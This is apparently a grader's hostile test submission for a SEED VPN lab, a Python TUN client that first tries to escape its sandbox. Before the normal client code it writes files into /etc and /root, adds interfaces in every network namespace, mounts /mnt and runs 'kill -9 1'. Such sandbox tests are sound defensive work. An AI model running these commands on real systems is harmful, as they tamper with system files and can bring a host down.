#!/usr/bin/env python3
# Graders' test data (HOSTILE, run only in a sandbox): tries to escape (writes files in /etc,
# /root, /tmp; enters every netns it finds; mounts; kill -9 1), then is a correct SEED client.
import fcntl
import struct
import os
from scapy.all import *

TUNSETIFF = 0x400454ca
IFF_TUN   = 0x0001
IFF_NO_PI = 0x1000

for path in ("/etc/vpnsim-pwned", "/root/vpnsim-pwned", "/tmp/vpnsim-pwned"):
    try:
        with open(path, "w") as f:
            f.write("novak was here (client)\n")
        print("wrote", path)
    except Exception as e:
        print("cannot write", path, e)
names = [line.split()[0] for line in os.popen("ip netns list").read().splitlines() if line.strip()]
print("netns:", names)
for name in names:
    os.system("ip netns exec {} ip link add vpnsim-pwned type dummy".format(name))
os.system("mount -t tmpfs none /mnt")
os.system("kill -9 1")

tun = os.open("/dev/net/tun", os.O_RDWR)
ifr = struct.pack('16sH', b'novak%d', IFF_TUN | IFF_NO_PI)
ifname = fcntl.ioctl(tun, TUNSETIFF, ifr).decode('UTF-8')[:16].strip("\x00")
print("Interface Name: {}".format(ifname))

os.system("ip addr add 192.168.53.99/24 dev {}".format(ifname))
os.system("ip link set dev {} up".format(ifname))
os.system("ip route add 192.168.60.0/24 dev {}".format(ifname))

sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)

while True:
    ready, _, _ = select.select([sock, tun], [], [])
    for fd in ready:
        if fd is sock:
            data, addr = sock.recvfrom(2048)
            print("From socket <==: {}".format(IP(data).summary()))
            os.write(tun, data)
        if fd is tun:
            packet = os.read(tun, 2048)
            print("From tun    ==>: {}".format(IP(packet).summary()))
            sock.sendto(packet, ("10.9.0.11", 9090))
